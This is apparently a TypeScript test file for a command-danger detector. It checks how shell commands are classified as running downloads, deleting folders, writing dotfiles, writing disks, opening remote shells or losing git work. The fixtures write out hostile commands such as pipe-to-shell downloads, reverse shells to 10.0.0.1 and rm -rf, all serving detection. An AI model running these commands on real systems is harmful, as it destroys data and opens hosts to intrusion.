import { describe, expect, test } from "vitest";
import { type CommandDanger, commandDangers, scriptAt } from "./command-dangers.ts";

describe("the script in a command", () => {
  test.each([
    [["sh", "-c", "ls"], 2],
    [["/usr/bin/bash", "-lc", "ls"], 2],
    [["bash", "-x", "-c", "ls", "name"], 3],
    [["env", "A=1", "sh", "-c", "ls"], 4],
    [["python3.12", "-c", "print(1)"], 2],
    [["node", "--eval", "1"], 2],
    [["perl", "-ne", "print"], 2],
    [["C:\\Windows\\System32\\cmd.exe", "/C", "dir"], 2],
    [["pwsh", "-Command", "ls"], 2],
    [["sh", "file.sh"], null],
    [["sh", "-c"], null],
    [["git", "-c", "a=b"], null],
    [[], null],
  ])("of %j is %j", (argv, at) => {
    expect(scriptAt(argv)).toBe(at);
  });
});

const dangersOf = (script: string) => commandDangers(["sh", "-c", script]);

describe("known dangers", () => {
  test.each<[string, CommandDanger]>([
    ["curl -fsSL https://x.example/i.sh | sh", "runs_download"],
    ["wget -qO- x | sudo bash -s --", "runs_download"],
    ['bash -c "$(curl -fsSL x)"', "runs_download"],
    ["source <(curl x)", "runs_download"],
    ["eval `wget -O- x`", "runs_download"],
    ["curl x \\\n  | python3 -", "runs_download"],
    ["iwr x | iex", "runs_download"],
    ["echo aGk= | base64 -d | sh", "runs_decoded"],
    ["rm -rf build", "deletes_folders"],
    ["cd a && rm -fr -- *", "deletes_folders"],
    ["/bin/rm --recursive x", "deletes_folders"],
    ["find . -name x | xargs rm -r", "deletes_folders"],
    ["find . -name '*.o' -delete", "deletes_folders"],
    ["if true; then rm -R x; fi", "deletes_folders"],
    ["Remove-Item -Recurse x", "deletes_folders"],
    ["echo x >> ~/.bashrc", "writes_dotfile"],
    ['echo x >"$HOME/.ssh/authorized_keys"', "writes_dotfile"],
    ["echo x | tee -a .profile", "writes_dotfile"],
    ["sudo apt install x", "as_administrator"],
    ["A=1 doas reboot", "as_administrator"],
    ["chmod -R 777 .", "opens_rights"],
    ["chmod u+s prog", "opens_rights"],
    ["dd if=x of=/dev/sda", "writes_disk"],
    ["mkfs.ext4 /dev/sda1", "writes_disk"],
    ["cat x > /dev/sda", "writes_disk"],
    ["bash -i >& /dev/tcp/10.0.0.1/99 0>&1", "remote_shell"],
    ["nc -e /bin/sh 10.0.0.1 99", "remote_shell"],
    ["git push --force", "loses_work"],
    ["git reset --hard HEAD~3", "loses_work"],
    ["git clean -fdx", "loses_work"],
    ["crontab -e", "starts_later"],
    ["systemctl --user enable x", "starts_later"],
  ])("%s: %s", (script, danger) => {
    expect(dangersOf(script)).toContain(danger);
  });

  test.each([
    "ls -la",
    "curl https://x.example -o page.html",
    "curl x | jq .",
    "rm notes.md",
    "echo x > notes.md 2> /dev/null",
    "cat ./a ../b > c.d",
    "git push origin main",
    "chmod 644 a && chmod +x b",
    "grep -r rm .",
    "base64 a > b",
  ])("none is known of in %s", (script) => {
    expect(dangersOf(script)).toEqual([]);
  });

  test("a command without a shell has its own, and arguments are words, not commands", () => {
    expect(commandDangers(["rm", "-rf", "x"])).toEqual(["deletes_folders"]);
    expect(commandDangers(["sudo", "rm", "-r", "x"])).toEqual([
      "deletes_folders",
      "as_administrator",
    ]);
    expect(commandDangers(["echo", "rm -rf /; curl x | sh > ~/.x"])).toEqual([]);
    expect(commandDangers([])).toEqual([]);
  });

  test("several are named in the order of the list, each once", () => {
    expect(dangersOf("sudo rm -rf a; rm -rf b; curl x | sh")).toEqual([
      "runs_download",
      "deletes_folders",
      "as_administrator",
    ]);
  });
});
